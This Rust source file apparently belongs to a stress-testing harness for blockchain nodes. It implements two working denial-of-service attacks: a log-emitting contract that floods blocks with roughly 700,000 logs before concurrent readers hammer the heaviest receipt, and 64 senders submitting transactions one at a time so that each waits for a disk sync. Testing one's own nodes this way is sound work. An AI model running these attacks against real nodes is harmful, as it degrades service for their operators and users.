//! Attacks by stored data. Callers read batches of very many logs over and over, or send transactions one by one, so
//! that each transaction waits for the disk.

use std::{collections::BTreeMap, time::Duration};

use alloy_primitives::{Address, Bytes, TxKind, U256, hex};
use anyhow::{Context, Result};
use serde_json::{Value, json};
use slipnet::rpc::quantity;

use super::{
    attack::{Attack, AttackContext, AttackInfo, AttackSurface, FnAttack},
    http::call,
    stage::Call,
};

pub(super) const READING: &[&dyn Attack] = &[&RECEIPT_BOMB];
pub(super) const SENDING: &[&dyn Attack] = &[&LONE_TRANSACTIONS_ATTACK];

/// Creates a contract that emits empty logs until its gas is almost used up.
const LOGS_CODE: [u8; 20] = hex!("6b5b5f5fa06127105a115f57005f52600c6014f3");
/// Calls of that contract that fill a batch on a fast machine: 700,000 logs. Each uses a transaction's maximum of gas.
const BOMBS: u64 = 17;
const BOMB_GAS: u64 = 1 << 24;
const CREATION_GAS: u64 = 200_000;
/// Concurrent callers that read the batch.
const READERS: usize = 12;
/// How many times, and with what pause, the attack polls for the batch.
const LOOKS_MAX: usize = 400;
const LOOK_INTERVAL: Duration = Duration::from_millis(100);
/// Senders of lone transactions: more than the bodies that a node handles at a time.
const LONE_SENDERS: usize = 64;
/// Transactions that each sender sends per query of its nonce.
const LONE_TRANSACTIONS: u64 = 50;

fn request(method: &str, params: &Value) -> String {
    json!({ "jsonrpc": "2.0", "id": 1, "method": method, "params": params }).to_string()
}

const RECEIPT_BOMB: FnAttack = FnAttack {
    info: AttackInfo::new(AttackSurface::Http, "receipt-bomb", "700,000 logs in as few batches as possible, then requests for the header and the last receipt of the fullest one, 12 at a time").quick(),
    start: |field| Box::pin(async move {
            let requests = drop_bomb(&field).await?;
            let read = move |field: AttackContext, index: usize| {
                let body = requests[index % 2].clone();
                async move { call(&field, AttackContext::address(index), &body).await }
            };
            field.swarm(READERS, Duration::from_millis(10), read).await
        }),
};

/// Fills batches with logs. Returns the requests that read the fullest one: for its last receipt, and for its header.
async fn drop_bomb(field: &AttackContext) -> Result<[String; 2]> {
    let rpc = field.target.rpc(0)?;
    let (money, account) =
        (field.target.money(), field.target.accounts(1)?.pop().context("the attackers have no account")?);
    let first = quantity(&rpc.call("eth_getTransactionCount", json!([account.address, "pending"])).await?)?;
    let creation = Call {
        to: TxKind::Create,
        value: U256::ZERO,
        gas_limit: CREATION_GAS,
        input: Bytes::from_static(&LOGS_CODE),
    };
    let bomb = Call {
        to: account.address.create(first).into(),
        value: U256::ZERO,
        gas_limit: BOMB_GAS,
        input: Bytes::new(),
    };
    let transfer = Call::transfer(Address::repeat_byte(0xdd));
    let calls = [creation].into_iter().chain((0..BOMBS).map(|_| bomb.clone())).chain([transfer]);
    let signed: Vec<_> =
        calls.zip(first..).map(|(call, nonce)| money.sign(&account, nonce, 1_000_000, call)).collect();
    let params: Vec<_> = signed.iter().map(|signed| json!([signed.raw])).collect();
    let _: Vec<Value> = rpc.batch_all("eth_sendRawTransaction", &params).await?;
    let asked: Vec<_> = signed.iter().map(|signed| json!([signed.hash])).collect();
    for _ in 0..LOOKS_MAX {
        let found: Vec<Value> = rpc.batch_all("eth_getTransactionByHash", &asked).await?;
        if let Some(last) = last_of_fullest(&found) {
            return Ok([
                request("eth_getTransactionReceipt", &json!([last["hash"]])),
                request("eth_getHeaderByNumber", &json!([last["blockNumber"]])),
            ]);
        }
        tokio::time::sleep(LOOK_INTERVAL).await;
    }
    anyhow::bail!("the node executed no batch of logs in {:?}", LOOK_INTERVAL * LOOKS_MAX as u32)
}

/// Returns the last of these transactions in the batch that holds most of them. Time also bounds batches, so a slow
/// machine makes several. Returns `None` while any transaction has no batch.
fn last_of_fullest(found: &[Value]) -> Option<&Value> {
    let mut batches: BTreeMap<&str, Vec<&Value>> = BTreeMap::new();
    for transaction in found {
        batches.entry(transaction["blockNumber"].as_str()?).or_default().push(transaction);
    }
    batches.into_values().max_by_key(Vec::len)?.pop()
}

const LONE_TRANSACTIONS_ATTACK: FnAttack = FnAttack {
    info: AttackInfo::new(
        AttackSurface::Pool,
        "lone-transactions",
        "64 senders that send one transaction at a time, so that each waits for a sync of the disk",
    )
    .quick(),
    start: |field| {
        Box::pin(field.swarm(LONE_SENDERS, Duration::ZERO, |field, index| async move {
            let rpc = field.target.rpc(index)?;
            let accounts = field.target.accounts(LONE_SENDERS)?;
            let account = accounts.get(index).context("there are fewer accounts than attackers")?;
            let pending = json!([account.address, "pending"]);
            let first = quantity(&rpc.call("eth_getTransactionCount", pending).await?)?;
            for nonce in first..first + LONE_TRANSACTIONS {
                field.tally.tried();
                let transfer = Call::transfer(Address::repeat_byte(0xdd));
                let signed = field.target.money().sign(account, nonce, 1, transfer);
                let _: Value = rpc.call("eth_sendRawTransaction", json!([signed.raw])).await?;
                field.tally.done();
            }
            Ok(())
        }))
    },
};

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_last_of_the_fullest_batch_is_read() {
        let found = [("0x1", "a"), ("0x1", "b"), ("0x2", "c")]
            .map(|(number, hash)| json!({ "blockNumber": number, "hash": hash }));
        assert_eq!(last_of_fullest(&found).unwrap()["hash"], "b");
        let waits = [&found[..], &[json!({ "blockNumber": null })]].concat();
        assert_eq!(last_of_fullest(&waits), None);
    }
}
